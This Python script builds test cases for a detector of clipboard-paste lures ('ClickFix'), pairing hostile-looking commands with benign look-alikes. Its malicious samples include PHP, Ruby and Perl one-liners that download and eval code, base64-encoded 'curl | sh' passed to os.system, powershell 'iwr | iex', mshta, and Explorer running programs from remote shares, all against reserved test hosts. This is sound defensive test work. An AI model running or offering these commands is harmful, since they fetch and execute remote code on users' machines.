"""Writes tests/data/cases/b19fix.jsonl: the kinds of text BLIND-19's misses and BLIND-15's
benign misses stand for (helper "b19fix", 2026-12-07 evening), written here from general
knowledge of such texts, each beside look-alikes on the other side that must keep their level.

    python tests/data/cases/make_b19fix.py

Deterministic. Invented hosts are reserved names (*.test, *.example, *.invalid, *.local, *.corp)
and documentation addresses; no blind set's text, lure collection or other detector's fixture is
copied. Each line is {id, text, expect, technique, platform, source, target}.

By kind:

- `run-box-perfmon-mode`: Performance Monitor in one of its windows (`perfmon /sys /comp`, compare
  mode; /rel /res /report) from any page (runbox.WINDOWS_SWITCHES), and typed with the
  local-network computer it is meant for (runbox.yaml `tools`). A share, a path, a public name or address after it, a
  computer's name from a page, a command after it stay a command.
- `run-box-user-program`: a program by its path in a folder of its own in the person's folder of
  programs (`%LOCALAPPDATA%\\Programs\\<app>\\<app>.exe`, where per-user installers put it; a
  browser never saves there), from any page (runbox._USER_PROGRAMS). A file straight in Programs,
  Temp or Downloads inside it, the Public profile, a script, arguments stay a command.
- `write-up-elided`: an awareness note quoting a lure's command with its payload or address
  elided by an ellipsis (`powershell -w hidden ... | iex`, `mshta https://...`) in parentheses or
  quotes (engine._addressless_write_up, prose.elided_sample). A live address, a lure page's
  instructions stay flagged.
- `write-up-compound-start`: an incident note whose first word is an English compound
  ("Post-incident note:", "Follow-up:", "Sign-in alert:") quoting a defanged command: no cmdlet
  (prose._cmdlet). A live address, a real verb-noun cmdlet stay what they were.
- `script-fetch-then-run`: PHP, Ruby or Perl one-liners that keep a download in a variable, then
  evaluate or run it (`$c=file_get_contents("https://…");eval($c);`): 20-unix.yaml
  PG-NIX-SCRIPT-REMOTE-EXEC. A fetch that is only printed or saved stays quiet.
- `script-decode-then-run`: one-liners that hand their runner what a decoder gives back
  (`os.system(base64.b64decode('…'))`): PG-NIX-DECODE-TO-SHELL. A decode that is only printed
  stays as it was.
- `php-print-to-php`: PHP printing an address's content into another PHP (`php -r
  "readfile('https://…');" | php`), as `curl … | php`: PG-NIX-PIPE-TO-SHELL, a warning (a known
  vendor's installer is cleared as its curl form is). Printing into a pager or jq stays quiet.
- `run-box-program-path-words`: a program by its unquoted path with spaces and words after it
  (`C:\\Program Files\\Some App\\app.exe https://…`): the Run box finds the program word by word
  and runs it with the rest, so it is a command (runbox._PROGRAM_THEN_WORDS). The path alone, a
  folder, an editor given a local file (typed), a browser on a page stay quiet.
- `explorer-remote-program`: Explorer given a program file on a share of a public name, an address
  or WebDAV (it runs, as a double-click would): PG-WIN-UNC-EXECUTE. A folder or a document on a
  share, a program on a local-network server stay as they were.
"""

from __future__ import annotations

import base64
from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b19fix.jsonl")
RUN = "run_dialog"
TERMINAL = "terminal"
OTHER = "other"
UNKNOWN = "unknown"
KB = "https://kb.fabrikam.example/windows/performance-monitor"
TIPS = "https://www.pc-tips-weekly.example/open-apps-from-run"
WIKI = "https://wiki.contoso.local/security/awareness"
BLOG = "https://blog.tailwind-sec.test/posts/clipboard-lures"
LURE = "https://verify-human.check-session.test/captcha"
LURE2 = "https://cdn-check.umbra-stage.test/verify/step2"


def perfmon(book: Book) -> None:
    tech = "run-box-perfmon-mode"
    for i, text in enumerate(
        ["perfmon /sys /comp", "perfmon.exe /sys /comp", "perfmon /rel", "perfmon /res",
         "perfmon.exe /res"]
    ):  # fmt: skip
        book.add(tech, text, "not_flagged", "windows", RUN, (KB, TIPS)[i % 2])
    for text in (
        "perfmon.exe /sys /comp ws-0412",
        "perfmon /sys /comp SRV-DB02",
        "perfmon /sys /comp fs01.corp.local",
        "perfmon /sys /comp 10.20.30.41",
        "perfmon /sys app-host-7",
    ):
        book.add(tech, text, "not_flagged", "windows", RUN, None)
    for text in (
        r"perfmon /sys /comp \\203.0.113.5\pub",
        "perfmon /rel /sys ws-0412",
        r"perfmon /sys /comp C:\Users\Public\monitor.msc",
        "perfmon /sys /comp stats.umbra-stage.test",
        "perfmon /sys /comp 198.51.100.23",
        "perfmon /sys & mshta https://cdn-check.umbra-stage.test/p.hta",
    ):
        book.add(tech, text, "flagged", "windows", RUN, None)
    # a computer's name written by a page is no typed entry (runbox.yaml `tools`)
    book.add(tech, "perfmon.exe /sys /comp ws-0412", "malicious", "windows", RUN, LURE)
    book.add(tech, "perfmon /sys /comp & powershell -w h", "malicious", "windows", RUN, KB)


def user_programs(book: Book) -> None:
    tech = "run-box-user-program"
    for i, text in enumerate(
        [
            r"%LOCALAPPDATA%\Programs\Microsoft VS Code\Code.exe",
            r'"%LOCALAPPDATA%\Programs\Microsoft VS Code Insiders\Code - Insiders.exe"',
            r"C:\Users\ana.souza\AppData\Local\Programs\GitHub Desktop\GitHubDesktop.exe",
            r"%LOCALAPPDATA%\Programs\Obsidian\Obsidian.exe",
            r"%localappdata%\Programs\Python\Python312\pythonw.exe",
            r'"C:\Users\jonas\AppData\Local\Programs\Signal\Signal.exe"',
        ]
    ):
        book.add(tech, text, "not_flagged", "windows", RUN, (TIPS, KB)[i % 2])
    for i, text in enumerate(
        [
            r"%LOCALAPPDATA%\Programs\Verify.exe",
            r"%LOCALAPPDATA%\Programs\Helper\Downloads\helper.exe",
            r"%LOCALAPPDATA%\Programs\Helper\Temp\helper.exe",
            r"C:\Users\Public\AppData\Local\Programs\Helper\helper.exe",
            r"%LOCALAPPDATA%\Programs\Helper\check.hta",
            r"%LOCALAPPDATA%\Programs\Helper\helper.exe --load https://cdn-check.umbra-stage.test/x",
            r"%APPDATA%\Programs\Helper\helper.exe",
            r"%LOCALAPPDATA%\Temp\Programs\Helper\helper.exe",
        ]
    ):
        book.add(tech, text, "malicious", "windows", RUN, (LURE, LURE2)[i % 2])


def elided(book: Book) -> None:
    tech = "write-up-elided"
    for i, text in enumerate(
        [
            "ClickFix in short: the page puts a command on your clipboard (usually powershell "
            "-w hidden ... | iex or mshta https://...) and talks you into running it yourself.",
            "Awareness tip: fake check pages copy a line (for example mshta https://... or "
            "powershell -w h -c ... | iex) and ask you to paste it into Win+R.",
            "What the lure does: it copies a command (cmd /c start /min powershell -w h -enc ... "
            "or mshta https://…) and asks for Win+R, Ctrl+V, Enter.",
            "Seen this week: pages that copy (powershell -c iwr https://... | iex) or (curl -s "
            "https://... | sh) and ask people to paste it; report them to the security desk.",
            "Reminder from IT: nobody will ask you to paste a command (like curl -fsSL https://... | "
            "bash or mshta https://...) to prove you are human.",
        ]
    ):
        book.add(tech, text, "not_flagged", "windows", (OTHER, UNKNOWN)[i % 2], (WIKI, BLOG)[i % 2])
    # the same shape with a live address, or the page's own instructions, stays flagged
    for text, target, source in (
        (
            "Verification step 2: press Win+R, paste (powershell -w hidden -c "
            "iex(irm https://check-session.test/v) ...) and press Enter.",
            UNKNOWN,
            LURE,
        ),
        (
            "Almost done... press Win+R and paste (mshta https://check-session.test/v.hta ...) "
            "to confirm you are not a robot.",
            UNKNOWN,
            LURE2,
        ),
        (
            'To finish the check, press Win+R and paste "powershell -w h -c iwr '
            'https://cdn-check.umbra-stage.test/a | iex" ... then Enter.',
            RUN,
            LURE,
        ),
    ):
        book.add(tech, text, "flagged", "windows", target, source)


def compound_start(book: Book) -> None:
    tech = "write-up-compound-start"
    for i, text in enumerate(
        [
            'Post-incident note: the command the page copied was powershell -w h -c "iwr '
            'hxxps://cdn-check[.]example/a | iex". Blocked by the paste warning; thanks, Jonas!',
            'Follow-up: the user pasted "powershell -w hidden -c iex(irm hxxp://198.51.100[.]7/x)" '
            "into the Run box and the warning stopped it.",
            'Post-mortem: the fake update page copied powershell -w h -c "iwr '
            'hxxps://update-check[.]test/u | iex" at 09:12; two people reported it.',
            'Sign-in alert follow-up: after the fake check the clipboard held "powershell -w h -ep '
            'bypass -c iwr hxxps://login-verify[.]test/s | iex", blocked.',
            'Self-service note: the lure copied powershell -w h -c "irm '
            'hxxps://helpdesk-fix[.]test/p | iex" to the clipboard; nothing ran.',
        ]
    ):
        book.add(tech, text, "not_flagged", "windows", (UNKNOWN, OTHER)[i % 2], None)
    # a live address, or a verb-noun cmdlet spelled like a compound, stays flagged
    for text, target in (
        (
            'Post-incident note: run powershell -w h -c "iwr https://cdn-check.umbra-stage.test/a'
            ' | iex" again to reproduce it.',
            UNKNOWN,
        ),
        ("Invoke-expression (irm https://cdn-check.umbra-stage.test/a)", TERMINAL),
        ("Start-process mshta https://cdn-check.umbra-stage.test/a.hta", TERMINAL),
    ):
        book.add(tech, text, "flagged", "windows", target, None)


def fetch_then_run(book: Book) -> None:
    tech = "script-fetch-then-run"
    for text in (
        """php -r '$c=file_get_contents("https://stage.umbra-stage.test/c");eval($c);'""",
        """php -r '$p = file_get_contents("http://203.0.113.44/p"); system($p);'""",
        """php -r 'copy("https://cdn.check-session.test/a.php","/tmp/a.php"); include "/tmp/a.php";'""",
        """ruby -e 'c=URI.open("https://stage.umbra-stage.test/r").read; eval(c)'""",
        """ruby -rnet/http -e 'b=Net::HTTP.get(URI("https://stage.umbra-stage.test/r")); system(b)'""",
        """perl -MLWP::Simple -e 'my $s=get("https://stage.umbra-stage.test/p"); eval $s'""",
    ):
        book.add(tech, text, "malicious", "linux", TERMINAL, None)
    for text in (
        """php -r "copy('https://getcomposer.org/installer', 'composer-setup.php');\"""",
        """php -r 'echo file_get_contents("https://api.ipify.org");'""",
        """ruby -e 'puts URI.open("https://api.github.com/zen").read'""",
        """perl -MLWP::Simple -e 'getprint "https://www.example.com/"'""",
        """php -r '$j = json_decode(file_get_contents("https://api.example.com/v1/status")); var_dump($j);'""",
    ):
        book.add(tech, text, "not_flagged", "linux", TERMINAL, None)


def decode_then_run(book: Book) -> None:
    tech = "script-decode-then-run"

    def b64(text: str) -> str:
        return base64.b64encode(text.encode()).decode()

    hidden = b64("curl -s https://stage.umbra-stage.test/r|sh")
    hidden2 = b64("wget -qO- http://203.0.113.61/k | bash")
    hexed = b"curl -fsS https://stage.umbra-stage.test/h | sh".hex()
    for text in (
        f"""python3 -c "import base64,os;os.system(base64.b64decode('{hidden}'))\"""",
        f"""python -c "import base64,subprocess;subprocess.run(base64.b64decode('{hidden2}'),shell=True)\"""",
        f"""ruby -e "system(Base64.decode64('{hidden}'))\"""",
        f"""perl -MMIME::Base64 -e "system(decode_base64('{hidden2}'))\"""",
        f"""node -e "require('child_process').execSync(Buffer.from('{hidden}','base64').toString())\"""",
        f"""python3 -c "import os;os.system(bytes.fromhex('{hexed}').decode())\"""",
    ):
        book.add(tech, text, "malicious", "linux", TERMINAL, None)
    for text in (
        f"""python3 -c "import base64;print(base64.b64decode('{b64("hello, world")}'))\"""",
        """python3 -c "import base64,json,sys;print(json.loads(base64.b64decode(sys.argv[1])))" eyJhIjoxfQ==""",
        """python -c "import os;os.system('ls -la')\"""",
        f"""node -e "console.log(Buffer.from('{b64("ok")}','base64').toString())\"""",
        f"""ruby -e "puts Base64.decode64('{b64("ruby")}')\"""",
    ):
        book.add(tech, text, "not_flagged", "linux", TERMINAL, None)


def explorer_remote(book: Book) -> None:
    tech = "explorer-remote-program"
    for text in (
        r"explorer \\203.0.113.77\pub\Statement.exe",
        r'explorer.exe "\\files.umbra-stage.test\docs\Invoice 0412.pdf.scr"',
        r"explorer \\198.51.100.9@SSL\DavWWWRoot\verify.hta",
        r"explorer \\cdn.check-session.test\share\update.bat",
        r"explorer.exe \\192.0.2.40\d\Setup.msi",
    ):
        book.add(tech, text, "malicious", "windows", RUN, None)
        book.add(tech, text, "flagged", "windows", UNKNOWN, None)
    for text in (
        r"explorer \\fs01\apps",
        r"explorer \\fs01.corp.local\share\report.pdf",
        r"explorer \\nas\photos\2026",
        r"explorer C:\Tools",
        r"explorer \\printsrv\scans",
    ):
        book.add(tech, text, "not_flagged", "windows", UNKNOWN, None)


def print_to_php(book: Book) -> None:
    tech = "php-print-to-php"
    for text in (
        """php -r "readfile('https://stage.umbra-stage.test/i');" | php""",
        """php -r "echo file_get_contents('http://203.0.113.8/i');" | sudo php""",
        """php -r 'readfile("https://cdn.check-session.test/setup");' | php -- --quiet""",
        """php -r "fpassthru(fopen('https://stage.umbra-stage.test/i','r'));" | php""",
        """php -r "readfile('https://get.umbra-stage.test/installer');" | php8.3""",
    ):
        book.add(tech, text, "flagged", "linux", TERMINAL, None)
    for text in (
        """php -r "readfile('https://getcomposer.org/installer');" | php""",
        """php -r "readfile('https://www.example.com/robots.txt');" | less""",
        """php -r "echo file_get_contents('https://api.example.com/v1/status');" | jq .""",
        """php -r "readfile('https://downloads.example.org/CHANGELOG.md');" | head -n 40""",
        """php -r "echo phpversion();" | tee php-version.txt""",
    ):
        book.add(tech, text, "not_flagged", "linux", TERMINAL, None)


def program_path_words(book: Book) -> None:
    tech = "run-box-program-path-words"
    for i, text in enumerate(
        [
            r"C:\Program Files\Contoso Helper\helper.exe https://cdn-check.umbra-stage.test/v",
            r"C:\Program Files\Windows Media Player\wmplayer.exe https://cdn-check.umbra-stage.test/v.asx",
            r"C:\Program Files\7-Zip\7zFM.exe \\203.0.113.9\pub\invoice.zip",
            r"C:\Program Files (x86)\Contoso Sync\sync.exe stage.umbra-stage.test",
            r"C:\Program Files\Contoso Tools\runner.cmd verify 4471",
        ]
    ):
        book.add(tech, text, "malicious", "windows", RUN, (LURE, LURE2)[i % 2])
    for text in (
        r"C:\Program Files\Contoso Helper\helper.exe https://cdn-check.umbra-stage.test/v",
        r"C:\Program Files\7-Zip\7zFM.exe \\203.0.113.9\pub\invoice.zip",
    ):
        book.add(tech, text, "flagged", "windows", RUN, None)
    for text, source in (
        (r"C:\Program Files\Notepad++\notepad++.exe C:\logs\app.log", None),
        (r"C:\Program Files\Microsoft VS Code\Code.exe D:\src\site", None),
        (r"C:\Program Files\Contoso Helper\helper.exe", TIPS),
        (r"C:\Program Files (x86)\Common Files", KB),
        (r"C:\Users\jonas\Documents\Node.js projects", None),
        (r"C:\Program Files\Mozilla Firefox\firefox.exe https://intranet.corp.example/", TIPS),
    ):
        book.add(tech, text, "not_flagged", "windows", RUN, source)


def build() -> list[dict[str, str]]:
    book = Book("b19f")
    perfmon(book)
    user_programs(book)
    elided(book)
    compound_start(book)
    fetch_then_run(book)
    decode_then_run(book)
    explorer_remote(book)
    print_to_php(book)
    program_path_words(book)
    return book.cases


CASES = build()

if __name__ == "__main__":
    write(OUT, CASES)
